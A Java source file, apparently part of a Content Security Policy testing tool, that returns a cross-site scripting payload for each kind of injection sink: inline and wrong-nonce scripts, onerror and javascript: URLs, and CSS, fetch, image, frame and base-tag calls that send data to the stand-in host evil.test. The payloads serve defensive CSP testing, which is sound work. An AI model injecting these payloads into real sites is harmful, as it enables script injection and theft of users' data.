package dev.holdfast.probes.csp.judge;

import dev.holdfast.probes.csp.match.Sink;

/** What an attacker writes into the page. */
final class Line {
    private static final String CODE = "alert(document.domain)";

    private Line() {}

    static String of(Sink sink, String wrongNonce) {
        return switch (sink) {
            case INLINE -> "<script>" + CODE + "</script>";
            case WRONG_NONCE -> "<script nonce=" + wrongNonce + ">" + CODE + "</script>";
            case ATTR -> "<img src=x onerror=" + CODE + ">";
            case JSURL -> "<a href=\"javascript:" + CODE + "\">go on</a>";
            case DATA -> "<script src=\"data:text/javascript," + CODE + "\"></script>";
            case EVIL -> script("https://evil.test/evil.js");
            case SELF -> script("/uploads/attacker.js");
            case EVAL -> "setTimeout(\"" + CODE + "\")";
            case STYLE -> "<style>input[value^=a]{background:url(https://evil.test/a)}</style>";
            case STYLE_ATTR -> "<div style=\"position:fixed;inset:0\">";
            case IMG -> "<img src=https://evil.test/?data>";
            case CONNECT -> "fetch(\"https://evil.test/?data\")";
            case FRAME -> "<iframe src=https://evil.test/></iframe>";
            case OBJECT -> "<object type=text/html data=https://evil.test/></object>";
            case BASE -> "<base href=https://evil.test/>";
        };
    }

    static String script(String url) {
        return "<script src=" + url + "></script>";
    }
}
